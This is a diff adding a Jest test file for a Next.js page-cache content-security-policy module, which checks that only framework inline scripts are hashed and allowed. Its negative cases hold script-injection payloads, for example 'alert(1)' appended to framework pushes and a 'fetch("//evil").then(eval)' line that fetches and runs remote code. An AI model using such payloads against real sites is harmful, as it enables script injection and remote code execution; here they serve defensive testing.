@@ -1,0 +1,73 @@
+import { readFileSync } from 'node:fs';
+import { resetEnv } from '@/lib/env';
+import { policyOfPage, policyWithNonce } from '@/lib/page-cache/csp';
+import { inlineScripts, isFrameworkScript, scriptHash } from '@/lib/page-cache/inline-scripts';
+import { runtimeLiterals } from '@/lib/page-cache/react-runtime';
+import { trustCode } from '@/lib/page-cache/trust';
+import { forgetProcessWide } from '@/lib/process-wide';
+
+const flight = 'self.__next_f.push([1,"0:[\\"$\\",\\"p\\"]\\n"])';
+
+beforeEach(() => {
+  process.env.STOCKFINDER_BASE_URL = 'http://one.example';
+  resetEnv();
+  forgetProcessWide('trust');
+  forgetProcessWide('unknown-scripts');
+});
+
+test('what the framework writes is known', () => {
+  for (const text of [
+    flight,
+    '(self.__next_f=self.__next_f||[]).push([0])',
+    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["a.js"],"runtimeModuleIds":[1]});',
+    ...runtimeLiterals,
+    `${runtimeLiterals[1]}$RC("B:0","S:0")`,
+    '$RC("B:1","S:1")',
+  ]) {
+    expect(isFrameworkScript(text)).toBe(true);
+  }
+});
+
+test.each([
+  'alert(1)',
+  'self.__next_f.push([1,alert(1)])',
+  'self.__next_f.push([1,"a"]);alert(1)',
+  'self.__next_f.push([1,"a"]),alert(1)',
+  '$RC("B:0","S:0");alert(1)',
+  'alert(1);$RC("B:0","S:0")',
+  '$RC("B:0",alert(1))',
+  'fetch("//evil").then(eval)',
+])('%s is not', (text) => {
+  expect(isFrameworkScript(text)).toBe(false);
+});
+
+test('the literals are those of the installed release', () => {
+  const file = require.resolve('next/dist/compiled/react-dom/cjs/react-dom-server.node.production.js');
+  const source = readFileSync(file, 'utf8').replaceAll('\\n', '\n').replaceAll('\\"', '"');
+  for (const literal of runtimeLiterals) expect(source).toContain(literal);
+});
+
+test('data blocks and external scripts need no hash, others are read as written', () => {
+  const html = `<script type="application/ld+json">{"a":1}</script><script src="/a.js"></script><script id="x">${flight}</script>`;
+  expect(inlineScripts(html)).toEqual([flight]);
+});
+
+test('the policy of a page lets its own scripts run and nothing that came along', () => {
+  const stderr = jest.spyOn(process.stderr, 'write').mockReturnValue(true);
+  const policy = policyOfPage(`<script>${flight}</script><script>alert(1)</script>`);
+  expect(policy).toContain(scriptHash(flight));
+  expect(policy).not.toContain(scriptHash('alert(1)'));
+  expect(policy).not.toMatch(/script-src[^;]*unsafe/);
+  expect(policy).toContain("frame-ancestors 'none'");
+  expect(stderr).toHaveBeenCalledTimes(1);
+});
+
+test('configured code is let run once it is trusted', () => {
+  trustCode({
+    scripts: ['banner()'],
+    sources: ['https://cdn.example/banner.js', '//tags.example/x.js', 'javascript:x'],
+  });
+  const policy = policyWithNonce('abc');
+  expect(policy).toContain(`'nonce-abc' ${scriptHash('banner()')} https://cdn.example https://tags.example`);
+  expect(policy).not.toContain('javascript:');
+});
